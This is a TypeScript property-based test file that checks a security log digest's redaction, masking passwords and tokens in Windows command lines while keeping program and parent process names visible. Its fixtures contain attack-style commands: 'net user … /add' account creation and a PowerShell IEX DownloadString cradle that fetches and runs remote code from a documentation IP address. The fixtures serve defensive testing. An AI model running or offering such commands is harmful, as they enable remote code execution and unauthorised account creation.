import * as fc from "fast-check";
import { expect, test } from "vitest";
import type { EventDigest } from "../../../src/digest/event-digest.ts";
import { eventArbitrary } from "../../support/digest-arbitraries.ts";
import { digestWith, start, textOfEvent, viewsOf } from "../../support/redaction.ts";

/** Letters only: of other names a part is masked. */
const named = fc.stringMatching(/^[a-s][a-z]{2,9}$/);
/** Ways to hand a secret to a program; § is the secret. */
const FORMS = [
  "net user bob § /add",
  "net user /add bob §",
  'net1 user "bob" "§" /add',
  "tool --password § --user x",
  "tool --api-key=§ x",
  "mysql -u root -p§ shop",
  "curl -u bob:§ https://h.example/x",
  "curl -H 'Authorization: Bearer abc§' https://h.example/x",
  "curl https://bob:§@h.example/x?page=2",
  "curl https://h.example/x?token=§",
  "DB_PASSWORD=§ ./run",
  "powershell -c $password = '§'; whoami",
  "ConvertTo-SecureString '§' -AsPlainText -Force",
  "echo § | sudo -S id",
] as const;
const secrets = fc.stringMatching(/^Zq[A-Za-z0-9!_]{5,12}7x$/);
/** What ends where another value begins, and would be a secret's name if it did not. */
const ends = fc.constantFrom("", " net user", " --password", " password:", " -u bob:", " | sudo");

test("no form of a command shows its secret, and every one its program and parent", () => {
  fc.assert(
    fc.property(
      fc.record({
        program: named,
        parent: named,
        form: fc.constantFrom(...FORMS),
        secret: secrets,
        end: ends,
      }),
      ({ program, parent, form, secret, end }) => {
        const line = `C:\\opt\\${program}.exe /c ${form.replace("§", secret)}${end}`;
        const event = start(line, `${parent}.exe`, `C:\\opt\\${program}.exe`);
        for (const text of Object.values(viewsOf([event], true))) {
          expect(text).not.toContain(secret);
          expect(text).toContain(`${program}.exe`);
          expect(text).toContain(`${parent}.exe`);
        }
      },
    ),
    { numRuns: 150 },
  );
});

test("a line without a secret is shown as it is", () => {
  fc.assert(
    fc.property(named, named, ends, (program, parent, end) => {
      const event = start(
        `C:\\opt\\${program}.exe /c whoami${end}`,
        `${parent}.exe`,
        `C:\\opt\\${program}.exe`,
      );
      expect(textOfEvent(event)).toBe(textOfEvent(event, false));
    }),
    { numRuns: 300 },
  );
});

/** What may not depend on whether secrets are shown. */
function factsOf({ groups }: EventDigest) {
  return groups.map(({ id, count, hits, rarity, template, outcome }) => ({
    id,
    count,
    hits,
    rarity,
    template,
    outcome,
  }));
}

test("what is redacted changes neither groups nor what is known of them", () => {
  const events = [
    ...FORMS.map((form, at) => start(`cmd.exe /c ${form.replace("§", `Zq${String(at)}aB7x`)}`)),
    start("cmd.exe /c net user"),
  ];

  expect(factsOf(digestWith(events, true))).toEqual(factsOf(digestWith(events, false)));
  expect(factsOf(digestWith(events, true)).some(({ hits }) => hits.length > 0)).toBe(true);
  fc.assert(
    fc.property(fc.array(eventArbitrary, { maxLength: 12 }), (some) => {
      expect(factsOf(digestWith(some, true))).toEqual(factsOf(digestWith(some, false)));
    }),
    { numRuns: 100 },
  );
});

test("the shape of a group is masked after its secrets are gone", () => {
  const events = ["aB7xQ9", "zY1wV3"].map((secret) =>
    start(`cmd.exe /c tool --password 12${secret} run 4711`),
  );
  const digest = digestWith(events, true);
  const templates = digest.groups.map(({ shownTemplate }) => shownTemplate());

  expect(
    templates.every((template) => template.includes("--password [redacted password] run #")),
  ).toBe(true);
  const whole = digestWith(events, false).groups;
  expect(whole.map(({ shownTemplate }) => shownTemplate())).toEqual(
    whole.map(({ template }) => template),
  );
});

test("of a long script the part is shown that made it suspicious, whatever secrets it holds", () => {
  const password = `$password = '${"Zq7x".repeat(60)}'; `;
  const script = `${"Write-Host ok; ".repeat(60)}${password}IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a'); ${"Write-Host ok; ".repeat(80)}`;
  const text = textOfEvent({
    event_type: "winsec",
    win_event_id: 4104,
    provider: "Microsoft-Windows-PowerShell",
    ScriptBlockText: script,
  });

  expect(text).toContain("DownloadString");
  expect(text).not.toContain("Zq7x");
});
